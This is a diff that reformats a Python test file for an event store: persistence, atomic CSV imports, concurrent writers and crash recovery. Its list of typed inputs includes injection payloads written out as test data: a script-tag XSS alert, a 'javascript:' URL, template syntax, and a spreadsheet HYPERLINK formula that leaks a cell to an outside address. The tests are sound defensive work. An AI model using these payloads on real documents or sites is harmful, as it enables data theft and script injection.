@@ -1,4 +1,5 @@
 """The user's event store: persistence, all-or-nothing imports, concurrent writers, crashes."""
+
 import sqlite3
 import subprocess
 import sys
@@ -34,8 +35,13 @@ def test_the_store_lives_in_the_home_folder_the_environment_names(monkeypatch, t
 
 def test_a_new_event_carries_the_resolved_place_and_a_uuid():
     made = event(note="seen in <b>Azatutyun</b>", source="https://example.org/a")
-    assert (made.place_name, made.lat, made.lon, made.place_kind, made.place_country) == \
-        ("Gyumri", 40.79305, 43.84635, "city", "ARM")
+    assert (made.place_name, made.lat, made.lon, made.place_kind, made.place_country) == (
+        "Gyumri",
+        40.79305,
+        43.84635,
+        "city",
+        "ARM",
+    )
     assert made.countries == ("ARM", "RUS") and made.note == "seen in <b>Azatutyun</b>" and made.created_at == NOW
     assert len(made.id) == 36 and made.id != event().id
 
@@ -76,10 +82,23 @@ def test_a_store_written_by_a_newer_version_is_refused(store):
         MyEventStore(store.path)
 
 
-TYPED = ["if a<b and c>d", "AT&T &amp; <b>bold</b>", "Talks <script>alert(1)</script>in <i>Kant</i>",
-         '=HYPERLINK("https://example.org/?leak="&A1,"Gyumri")', "+7 dead", "-1 tank", "@SUM(A1)", "'=typed",
-         "{{ 7*7 }} {% if 1 %}x{% endif %} {# #}", "line one\rline two\r\nthree\nfour", "tab\tinside",
-         "javascript:alert(1)", "control \x01\x1f\x7f chars", "Şuşa — «Xankəndi» 中文 🙂", *HOSTILE]
+TYPED = [
+    "if a<b and c>d",
+    "AT&T &amp; <b>bold</b>",
+    "Talks <script>alert(1)</script>in <i>Kant</i>",
+    '=HYPERLINK("https://example.org/?leak="&A1,"Gyumri")',
+    "+7 dead",
+    "-1 tank",
+    "@SUM(A1)",
+    "'=typed",
+    "{{ 7*7 }} {% if 1 %}x{% endif %} {# #}",
+    "line one\rline two\r\nthree\nfour",
+    "tab\tinside",
+    "javascript:alert(1)",
+    "control \x01\x1f\x7f chars",
+    "Şuşa — «Xankəndi» 中文 🙂",
+    *HOSTILE,
+]
 
 
 @pytest.mark.parametrize("typed", TYPED)
@@ -140,8 +159,13 @@ def test_a_crash_mid_import_leaves_the_store_unchanged(store, tmp_path):
     store.add(event())
     upload = tmp_path / "fifty.csv"
     upload.write_text(my_events_csv([event(f"Event {n}") for n in range(50)]))
-    result = subprocess.run([sys.executable, "-c", CRASHING_IMPORT, str(store.path), str(upload)], cwd=ROOT,
-                            capture_output=True, text=True, timeout=60)
+    result = subprocess.run(
+        [sys.executable, "-c", CRASHING_IMPORT, str(store.path), str(upload)],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert result.returncode == 3, result.stderr
     assert [e.title for e in MyEventStore(store.path).events()] == ["Russian base stays in Gyumri"]
 
@@ -186,9 +210,17 @@ for n in range(30):
 
 
 def test_two_processes_writing_at_once_both_keep_their_events(store):
-    writers = [subprocess.Popen([sys.executable, "-c", CONCURRENT_WRITER, str(store.path), name], cwd=ROOT,
-                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
-               for name in ("first", "second")]
+    writers = [
+        subprocess.Popen(
+            [sys.executable, "-c", CONCURRENT_WRITER, str(store.path), name],
+            cwd=ROOT,
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        for name in ("first", "second")
+    ]
     for writer in writers:
         assert writer.stdout.readline().strip() == "ready"
     for writer in writers:  # released together, so their transactions interleave
